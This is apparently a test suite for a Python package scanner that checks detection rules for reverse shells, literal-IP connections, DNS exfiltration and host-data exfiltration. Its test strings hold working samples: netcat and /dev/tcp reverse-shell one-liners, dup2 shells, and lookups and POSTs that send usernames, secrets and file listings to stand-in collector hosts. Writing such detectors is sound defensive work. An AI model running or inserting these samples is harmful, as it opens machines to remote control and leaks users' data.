"""Network behaviours: reverse shells, literal-IP connections, DNS exfiltration, host data sent over HTTP. Each
rule fires on the pattern however it is written, and an everyday look-alike stays below medium."""

from pypi_platform_tests.lib.scans.python_scan import below_medium, found, rules


# --- backdoor.reverse-shell ----------------------------------------------------------------------------------
def test_backdoor_reverse_shell_socket_duplicated_onto_the_standard_streams_then_a_shell():
    source = """
    import os, pty, socket
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(('203.0.113.10', 4444))
    for fd in (0, 1, 2):
        pass
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn('/bin/sh')
    """
    assert ("backdoor.reverse-shell", 10) in found(source)


def test_backdoor_reverse_shell_subprocess_with_the_socket_as_its_streams():
    source = """
    import socket, subprocess
    s = socket.create_connection(('shell.example', 443))
    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
    """
    assert ("backdoor.reverse-shell", 4) in found(source)


def test_backdoor_reverse_shell_shell_commands_that_connect():
    source = """
    import os, subprocess
    os.system('nc -e /bin/sh 198.51.100.20 9001')
    subprocess.Popen('bash -i >& /dev/tcp/198.51.100.20/9001 0>&1', shell=True)
    os.system('rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.20 9001 > /tmp/f')
    subprocess.run(['bash', '-c', 'sh -i 2>&1 | nc shell.example 4444'])
    os.system('n' + 'c -e /bin/bash shell.example 4444')
    """
    lines = [line for rule, line in found(source) if rule == "backdoor.reverse-shell"]
    assert lines == [3, 4, 5, 6, 7]


def test_a_shell_and_a_socket_without_duplicated_streams_is_no_reverse_shell():
    source = """
    import os, socket, subprocess
    s = socket.create_connection(('localhost', 8080))
    subprocess.run(['/bin/sh', '-c', 'make'])
    os.dup2(log.fileno(), 2)
    os.system('nc -z localhost 8080')
    """
    assert "backdoor.reverse-shell" not in rules(source)
    assert below_medium("import socket\ns = socket.create_connection(('localhost', 8080))\n")


# --- network.literal-ip-connection ---------------------------------------------------------------------------
def test_network_literal_ip_connection_in_tuples_urls_and_folded_strings():
    source = """
    import socket, requests, urllib.request
    socket.create_connection(('203.0.113.5', 80))
    requests.get('http://198.51.100.7:8080/x')
    urllib.request.urlopen('http://' + '192.0.2.1' + '/beacon')
    requests.post('http://[2001:db8::5]/c', data=b'')
    sock.connect(('198.51.100.9', 53))
    """
    lines = [line for rule, line in found(source) if rule == "network.literal-ip-connection"]
    assert lines == [3, 4, 5, 6, 7]


def test_loopback_private_and_named_hosts_are_no_literal_ip_connection():
    source = """
    import socket, requests
    socket.create_connection(('127.0.0.1', 80))
    requests.get('http://10.0.0.5/health')
    requests.get('http://[::1]:8000/')
    requests.get('https://api.example.org/v1/items')
    sock.connect(('localhost', 5432))
    """
    assert "network.literal-ip-connection" not in rules(source)
    assert below_medium(source)


def test_a_network_or_broadcast_address_is_no_literal_ip_connection():
    # pyparsing's NTP example walks a network: 124.0.0.0 names it, no host answers there
    source = """
    import socket
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(b"x", ("124.0.0.0", 123))
    socket.create_connection(("198.51.100.255", 9))
    """
    assert "network.literal-ip-connection" not in rules(source)


# --- exfiltration.dns ----------------------------------------------------------------------------------------
def test_exfiltration_dns_host_data_formatted_into_a_looked_up_name():
    source = """
    import base64, getpass, os, socket
    import dns.resolver
    socket.gethostbyname(f'{getpass.getuser()}.{socket.gethostname()}.collector.example')
    socket.getaddrinfo(os.environ['USER'] + '.collector.example', 80)
    label = base64.b32encode(secret).decode()
    dns.resolver.resolve(label + '.collector.example', 'TXT')
    """
    lines = [line for rule, line in found(source) if rule == "exfiltration.dns"]
    assert lines == [4, 5, 7]


def test_resolving_the_own_host_name_or_a_fixed_name_is_no_dns_exfiltration():
    source = """
    import socket
    socket.gethostbyname(socket.gethostname())
    socket.gethostbyname('api.example.org')
    socket.getaddrinfo(f'{service}.internal.example', 443)
    """
    assert below_medium(source)


def test_finding_the_local_address_from_the_host_name_held_in_a_variable_is_quiet():
    source = """
    import socket
    hostname = socket.gethostname()
    ip = socket.gethostbyname(hostname)
    public = socket.gethostbyname_ex(hostname)[2]
    first = socket.getaddrinfo(hostname, None, socket.AF_UNSPEC, 0, 0, socket.AI_ADDRCONFIG)[0][4][0]
    both = socket.getaddrinfo(socket.gethostname(), 0)
    on_the_link = socket.gethostbyname_ex(socket.gethostname() + '.local')[2]
    """
    assert [rule for rule, _ in found(source) if rule == "exfiltration.dns"] == []


def test_exfiltration_dns_host_name_formatted_into_a_name_held_in_a_variable():
    source = """
    import socket
    host = socket.gethostname()
    name = '{}.beacon.example'.format(host)
    socket.gethostbyname(name)
    socket.gethostbyname('.'.join([host, 'beacon.example']))
    """
    assert [line for rule, line in found(source) if rule == "exfiltration.dns"] == [5, 6]


# --- exfiltration.host-data ----------------------------------------------------------------------------------
def test_exfiltration_host_data_sent_in_a_request_body():
    source = """
    import getpass, os, platform, requests, socket, urllib.request
    info = {'user': getpass.getuser(), 'host': socket.gethostname(), 'cwd': os.getcwd()}
    requests.post('https://collector.example/in', json=info)
    requests.post('https://collector.example/in', data={'files': os.listdir(os.path.expanduser('~'))})
    urllib.request.urlopen('https://collector.example/in', data=platform.node().encode())
    requests.post('https://discord.com/api/webhooks/1/abc', files={'f': open('/etc/hosts').read()})
    """
    lines = [line for rule, line in found(source) if rule == "exfiltration.host-data"]
    assert lines == [4, 5, 6, 7]


def test_an_api_client_sending_its_own_payload_and_platform_headers_stays_quiet():
    source = """
    import os, platform, requests
    headers = {'User-Agent': f'client/1.0 ({platform.system()})'}
    requests.post('https://api.example.org/v1', json={'q': query}, headers=headers)
    requests.post(url, data={'token': os.environ['API_TOKEN']})
    requests.put(upload_url, data=open(path, 'rb').read())
    """
    assert "exfiltration.host-data" not in rules(source)
    assert below_medium(source)


def test_backdoor_reverse_shell_streams_duplicated_in_a_loop_and_a_piped_shell_relayed_to_a_socket():
    source = """
    import os, pty, socket, subprocess

    def attach(sock):
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        pty.spawn('/bin/bash')

    def relay(sock):
        shell = subprocess.Popen(['cmd.exe'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        while True:
            shell.stdin.write(sock.recv(1024))
            sock.send(shell.stdout.read1(65536))
    """
    # the dup2 and the spawn; the piped shell and the send relaying its output
    assert [line for rule, line in found(source) if rule == "backdoor.reverse-shell"] == [6, 7, 10, 13]


def test_backdoor_reverse_shell_reported_at_the_connection_and_the_duplicated_descriptor():
    source = """
    import os, socket, subprocess
    sock = socket.create_connection(('sync.example', 8443))
    os.dup2(sock.fileno(), 0)
    subprocess.call(['/bin/sh', '-i'])
    other = socket.socket()
    other.connect(('203.0.113.5', 9001))
    """
    lines = [line for rule, line in found(source) if rule == "backdoor.reverse-shell"]
    assert lines == [3, 4, 5, 7]


def test_a_socket_and_a_redirected_log_descriptor_without_a_shell_are_no_reverse_shell():
    source = """
    import os, socket
    sock = socket.create_connection(('sync.example', 8443))
    os.dup2(sock.fileno(), 0)
    os.dup2(log.fileno(), 2)
    sock.send(process.stdout.read())
    """
    assert "backdoor.reverse-shell" not in rules(source)


def test_network_literal_ip_connection_through_names_folded_tuples_and_obscured_spellings():
    source = """
    import requests, socket
    ADDRESS = ('203.0.113.77', 8443)
    probe = socket.socket()
    probe.connect(ADDRESS)
    probe.connect((bytes([49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 49]).decode(), 4444))
    requests.get('http://0xcb.0x0.0x71.0x2a/stage')
    requests.get('http://0313.0000.0161.0052/p')
    requests.get('http://3405803818/x')
    """
    lines = [line for rule, line in found(source) if rule == "network.literal-ip-connection"]
    assert lines == [5, 6, 7, 8, 9]


def test_network_literal_ip_connection_handed_to_a_local_function_that_connects():
    source = """
    import asyncio, urllib.request
    ENDPOINTS = ["192.0.2.31:8081"]

    async def _send(host, port, payload):
        reader, writer = await asyncio.open_connection(host, port)

    def report(payload):
        asyncio.run(_send("203.0.113.150", 7000, payload))
        for endpoint in ENDPOINTS:
            urllib.request.urlopen("http://" + endpoint + "/s", data=payload)
    """
    lines = [line for rule, line in found(source) if rule == "network.literal-ip-connection"]
    assert lines == [9, 11]


def test_a_literal_ip_to_a_function_that_does_not_connect_with_it_and_resolver_checks_are_quiet():
    source = """
    import socket
    RESOLVERS = (("1.1.1.1", 53), ("8.8.8.8", 53))

    def log_peer(address, port):
        socket.create_connection(("sync.example", port))

    def online():
        for address in RESOLVERS:
            socket.create_connection(address, timeout=1).close()

    log_peer("203.0.113.150", 7000)
    """
    assert "network.literal-ip-connection" not in rules(source)
